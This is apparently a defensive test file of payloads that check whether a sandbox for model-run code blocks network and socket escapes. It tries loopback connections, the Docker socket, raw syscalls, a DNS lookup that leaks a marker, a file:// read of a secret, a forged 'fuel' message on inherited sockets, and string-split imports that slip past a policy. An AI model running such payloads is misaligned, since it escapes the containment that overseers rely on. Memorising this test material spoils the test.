"""The network, and sockets that are files or names."""
# ruff: noqa: E501 - payloads are written as a model would say them

from tests.escapes.payload import Payload, each

SOCKET = "import socket\nsocket.setdefaulttimeout(1)\n"

PAYLOADS = [
    Payload(
        name="network-tcp",
        goal="connect to a listener of the host on loopback",
        code=SOCKET
        + each(
            "socket.create_connection(('127.0.0.1', @TCP@))",
            "socket.create_connection(('localhost', @TCP@))",
            "socket.create_connection(('::ffff:127.0.0.1', @TCP@))",
            "socket.create_connection(('0.0.0.0', @TCP@))",
            "socket.create_connection(('172.17.0.1', @TCP@))",
            "socket.create_connection(('host.docker.internal', @TCP@))",
        ),
    ),
    Payload(
        name="network-udp",
        goal="send a datagram to the host on loopback",
        code=SOCKET
        + each(
            "socket.socket(type=socket.SOCK_DGRAM).sendto(b'@MARK@', ('127.0.0.1', @UDP@))",
            "socket.socket(type=socket.SOCK_DGRAM).sendto(b'@MARK@', ('255.255.255.255', @UDP@))",
        ),
    ),
    Payload(
        name="network-unix",
        goal="connect to a socket of the host that is a file",
        code=SOCKET
        + each(
            "socket.socket(socket.AF_UNIX).connect('@UNIX@')",
            "socket.socket(socket.AF_UNIX).connect('/proc/@PID@/root@UNIX@')",
            "socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
        ),
    ),
    Payload(
        name="network-abstract",
        goal="connect to a socket of the host that is only a name",
        code=SOCKET + each("socket.socket(socket.AF_UNIX).connect('\\0@ABSTRACT@')"),
    ),
    Payload(
        name="network-dns",
        goal="ask for names, which carry a text outside",
        code=SOCKET
        + each(
            "print(socket.getaddrinfo('@MARK@.example.com', 80))",
            "print(socket.gethostbyname('localhost'), socket.gethostname())",
            "s = socket.socket(type=socket.SOCK_DGRAM)\ns.sendto(b'\\0' * 12, ('127.0.0.1', @UDP@))",
        ),
    ),
    Payload(
        name="network-libraries",
        goal="connect by libraries that hide their sockets",
        code=each(
            "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@TCP@', timeout=1)",
            "import http.client\nhttp.client.HTTPConnection('127.0.0.1', @TCP@, timeout=1).connect()",
            "import asyncio\nasyncio.run(asyncio.open_connection('127.0.0.1', @TCP@))",
            "import urllib.request\nprint(urllib.request.urlopen('file://@SECRET@').read())",
            "import logging.handlers\nlogging.handlers.DatagramHandler('127.0.0.1', @UDP@).send(b'x')",
            "import multiprocessing.connection as c\nc.Client('@UNIX@')",
            "import smtplib\nsmtplib.SMTP('127.0.0.1', @TCP@, timeout=1)",
        ),
    ),
    Payload(
        name="network-raw-calls",
        goal="make the system calls for sockets without their wrappers",
        code="import ctypes, struct\nlibc = ctypes.CDLL(None)\n"
        + each(
            "s = libc.socket(2, 1, 0)\na = struct.pack('!2xHI8x', @TCP@, 0x7f000001)\n"
            "a = struct.pack('H', 2) + a[2:]\nprint(s, libc.connect(s, a, 16))",
            "s = libc.syscall(41, 1, 1, 0)\na = struct.pack('H', 1) + b'@UNIX@' + b'\\0'\n"
            "print(s, libc.syscall(42, s, a, len(a)))",
            "print(libc.syscall(425, 8, 0), libc.syscall(41, 38, 5, 0), libc.syscall(41, 16, 3, 0))",
        ),
    ),
    Payload(
        name="network-other-families",
        goal="reach the host by families of sockets that walls forget",
        code="import socket\n"
        + each(
            "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, @TCP@))",
            "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0))",
            "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)",
            "socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET).bind(('hash', 'md5'))",
            "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b'x', ('127.0.0.1', 0))",
        ),
    ),
    Payload(
        name="network-inherited",
        goal="speak on sockets that were inherited from the host",
        code="import socket, os\n"
        + each(
            "for n in range(64):\n    try:\n        s = socket.socket(fileno=n)\n"
            "        print(n, s.family, s.getsockname(), s.getpeername())\n"
            '        s.send(b\'{"end": "fuel", "detail": "@MARK@", "fuel": 424242}\\n\')\n'
            "    except OSError: pass",
        ),
    ),
    Payload(
        name="network-under-the-policy",
        goal="open a socket by names that no text shows",
        trophy=("strict",),
        code=each(
            "print('@MARK@', __import__('sock' + 'et'))",
            "exec('impo' + 'rt so' + 'cket\\nsocket.create_connection((\"127.0.0.1\", @TCP@))')",
            "import uuid\nprint('@MARK@', uuid.uuid1())",
        ),
    ),
]
